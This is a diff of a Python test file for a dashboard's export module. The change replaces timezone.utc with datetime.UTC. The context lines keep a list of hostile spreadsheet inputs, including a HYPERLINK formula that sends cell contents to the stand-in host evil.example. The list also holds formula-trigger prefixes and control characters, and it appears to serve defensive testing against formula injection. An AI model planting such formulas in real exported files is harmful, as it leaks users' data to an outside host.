@@ -3,7 +3,7 @@ from __future__ import annotations
 
 import io
 import json
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import pandas as pd
 import pytest
@@ -13,7 +13,7 @@ from dashboard import export, filters
 from dashboard.data import region_members
 from dashboard.schema import COLUMNS, LABELS
 
-WHEN = datetime(2026, 11, 25, 21, 30, tzinfo=timezone.utc)
+WHEN = datetime(2026, 11, 25, 21, 30, tzinfo=UTC)
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
            "bell\x07 and nul\x00 inside"]
 
